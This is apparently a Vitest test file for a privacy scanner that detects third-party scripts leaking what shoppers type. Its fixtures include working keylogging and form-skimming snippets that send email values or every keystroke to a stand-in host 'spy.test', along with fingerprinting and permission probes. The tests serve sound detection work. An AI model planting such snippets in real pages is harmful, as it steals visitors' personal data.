import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";

import type { TypedPage } from "#evidence/privacy.ts";
import { type LoopbackWeb, startLoopbackWeb } from "#gather/privacy/loopback-web.testing.ts";
import { PRIVACY_LIMITS } from "#gather/privacy/privacy-limits.ts";
import { typeInPage } from "#gather/privacy/type-in-page.ts";

const FORM = `<form action="/send"><label>Email <input id="mail" name="mail" type="email"></label>
  <label>Name <input name="who"></label><button>Send</button></form>`;
let web: LoopbackWeb;

beforeAll(async () => {
  web = await startLoopbackWeb();
});
afterAll(async () => {
  await web.close();
});
vi.setConfig({ testTimeout: 120_000 });

async function typedInto(body: string, script: string): Promise<TypedPage> {
  web.serve({
    "shop.test/": {
      body: `<!doctype html><title>Shop</title><h1>Shop</h1>${body}<script src="http://spy.test/script.js"></script>`,
    },
    "spy.test/script.js": { type: "text/javascript", body: script },
    "frame.test/": {
      body: `<script>onmessage = (e) => fetch("http://spy.test/frame?v=" + e.data)</script>`,
    },
  });
  return await typeInPage(web.browser, { ...patient(), url: "http://shop.test/", userAgent: null });
}

function patient() {
  return { limits: { ...PRIVACY_LIMITS, loadMs: 40_000 }, signal: AbortSignal.timeout(110_000) };
}

/** What reached servers besides the page itself. */
function leftThePage(): string[] {
  const usual = new Set([
    "shop.test/",
    "spy.test/script.js",
    "spy.test/socket",
    "frame.test/",
    "shop.test/favicon.ico",
  ]);
  const ofThePage = web.visits
    .map(({ address }) => address)
    .filter((address) => /^\w+\.test\//.test(address));
  return ofThePage.filter((address) => !usual.has(address));
}

describe("a script of another company that takes what visitors type", () => {
  it.each([
    ["on each key", `mail.oninput = () => { new Image().src = to + encodeURIComponent(mail.value) }`],
    [
      "on leaving the field",
      `mail.addEventListener("blur", () => navigator.sendBeacon("http://spy.test/b", mail.value))`,
    ],
    [
      "when the field has changed",
      `mail.onchange = () => fetch("http://spy.test/c", { method: "POST", body: JSON.stringify({ e: btoa(mail.value) }) })`,
    ],
    [
      "by looking again and again",
      `let was = ""; setInterval(() => { if (mail.value !== was) fetch(to + (was = mail.value)) }, 3000)`,
    ],
    [
      "key by key",
      `addEventListener("keydown", (e) => fetch("http://spy.test/k", { method: "POST", body: JSON.stringify({ key: e.key }) }), true)`,
    ],
    [
      "on leaving the page",
      `addEventListener("beforeunload", () => navigator.sendBeacon("http://spy.test/l", mail.value))`,
    ],
    [
      "when the page is hidden",
      `addEventListener("pagehide", () => navigator.sendBeacon("http://spy.test/h", mail.value))`,
    ],
    [
      "from a worker",
      `const code = "onmessage = (e) => fetch('http://spy.test/w', { method: 'POST', mode: 'no-cors', body: e.data })";
       const worker = new Worker(URL.createObjectURL(new Blob([code])));
       mail.onblur = () => worker.postMessage(mail.value)`,
    ],
    [
      "from a frame of its own",
      `const frame = document.createElement("iframe"); frame.src = "http://frame.test/";
       document.body.append(frame); mail.onblur = () => frame.contentWindow.postMessage(mail.value, "*")`,
    ],
    [
      "over a web socket",
      `const socket = new WebSocket("ws://spy.test/socket"); mail.onblur = () => socket.send(mail.value)`,
    ],
  ])("is seen when it sends it %s, and nothing leaves the page", async (_how, script) => {
    const start = `const mail = document.getElementById("mail"); const to = "http://spy.test/v?v=";`;
    const { fields, sent } = await typedInto(FORM, `${start} ${script}`);
    expect(fields).toEqual([
      { name: "Email", kind: "email" },
      { name: "Name", kind: "text" },
    ]);
    const field = { name: "Email", kind: "email" };
    expect(sent).toContainEqual(expect.objectContaining({ field, to: expect.stringContaining("spy.test/") }));
    expect(leftThePage()).toEqual([]);
  });

  it("gets the whole value, with its dots and signs", async () => {
    const script = `const mail = document.getElementById("mail");
      mail.onchange = () => fetch("http://spy.test/v?v=" + (/^\\w+@example\\.com$/.test(mail.value) ? mail.value : ""))`;
    const { sent } = await typedInto(FORM, script);
    expect(sent.map(({ how }) => how)).toEqual(["as typed"]);
  });

  it("is seen in a handler that stands in the markup", async () => {
    const field = `<input placeholder="Your email" onkeyup="fetch('http://spy.test/v?v=' + this.value)">`;
    const { sent } = await typedInto(field, "");
    expect(sent).toEqual([
      { field: { name: "Your email", kind: "email" }, to: "http://spy.test/v", how: "as typed" },
    ]);
  });
});

describe("a page whose fields are its visitors' own", () => {
  it.each([
    [
      "checks what is typed by itself",
      FORM,
      `mail.oninput = () => { mail.ariaInvalid = String(!mail.value.includes("@")) }`,
    ],
    [
      "counts how often something was typed",
      FORM,
      `let keys = 0; mail.onkeydown = () => { keys += 1 }; mail.onblur = () => fetch("http://spy.test/n?keys=" + keys)`,
    ],
    [
      "sends the form when it is submitted",
      FORM,
      `document.forms[0].onsubmit = () => fetch("http://spy.test/s?v=" + mail.value)`,
    ],
    ["has no field", "<p>Bread.</p>", ""],
  ])("sends nothing where it %s", async (_what, body, script) => {
    const start = `const mail = document.getElementById("mail");`;
    expect(await typedInto(body, `${start} ${script}`)).toMatchObject({ sent: [] });
  });
});

describe("a page seen by another new visitor", () => {
  it("tells what scripts ask of the device before anything is touched, and what they stored", async () => {
    const script = `navigator.geolocation.getCurrentPosition(() => {}, () => {});
      if (Notification.permission === "default") Notification.requestPermission();
      const canvas = document.createElement("canvas"); canvas.toDataURL(); localStorage.setItem("id", "a1");`;
    const seen = await typedInto("<p>Bread.</p>", script);
    expect(seen).toMatchObject({
      positionAskedBy: ["http://spy.test/script.js"],
      notificationsAskedBy: ["http://spy.test/script.js"],
      fingerprintCalls: [{ api: "canvas", scriptUrl: "http://spy.test/script.js" }],
      stored: { storage: [{ area: "local", key: "id" }] },
    });
  });

  it("tells nothing of what a script does on a click or a key", async () => {
    const script = `const ask = () => (navigator.geolocation.watchPosition(() => {}), Notification.requestPermission());
      addEventListener("click", ask); addEventListener("keydown", ask);`;
    expect(await typedInto(FORM, script)).toMatchObject({
      positionAskedBy: [],
      notificationsAskedBy: [],
      fingerprintCalls: [],
    });
  });

  it("tells which script asks for the camera or microphone by itself, where browsers let it", async () => {
    const script = `const ask = (wanted) => navigator.mediaDevices.getUserMedia(wanted).catch(() => {});
      ask({ video: { width: 640 }, audio: false }); addEventListener("click", () => ask({ audio: true }));`;
    const secure = "http://localhost/";
    const body = "<!doctype html><title>Shop</title><script src='http://spy.test/script.js'></script>";
    web.serve({ "localhost/": { body }, "spy.test/script.js": { type: "text/javascript", body: script } });
    const { recordersAsked } = await typeInPage(web.browser, { ...patient(), url: secure, userAgent: null });
    expect(recordersAsked).toEqual([{ device: "camera", scriptUrl: "http://spy.test/script.js" }]);
  });

  it("tells what is sent once the visitor scrolls, and lets none of it go", async () => {
    const script = `addEventListener("scroll", () => { new Image().src = "http://spy.test/scrolled.gif" }, { once: true })`;
    const { onceMoved = [] } = await typedInto(`<p style="height: 5000px">Bread.</p>`, script);
    expect(onceMoved.map(({ url }) => url)).toContain("http://spy.test/scrolled.gif");
    expect(leftThePage()).toEqual([]);
  });
});

describe("a script that hands what visitors type to another company's queue", () => {
  it.each([
    ["_learnq", `_learnq = []; mail.onblur = () => _learnq.push(["identify", { $email: mail.value }])`],
    ["_hsq", `_hsq = []; mail.oninput = () => _hsq.push(["identify", { email: mail.value }])`],
    [
      "fbq.queue",
      `fbq = function () { fbq.queue.push(arguments) }; fbq.queue = [];
      mail.onchange = () => fbq("init", "1", { em: mail.value })`,
    ],
  ])("is seen before the company's script is there: %s", async (queue, code) => {
    const { queued } = await typedInto(FORM, code);
    const field = { name: "Email", kind: "email" };
    expect(queued).toContainEqual({ field, queue, how: "as typed" });
    expect(queued?.every((one) => one.queue === queue && one.field.name === "Email")).toBe(true);
  });

  it("is none where the queue holds nothing that was typed", async () => {
    const { queued } = await typedInto(FORM, `_learnq = [["track", "Viewed"]]; fbq = () => {}; ttq = {}`);
    expect(queued).toEqual([]);
  });
});
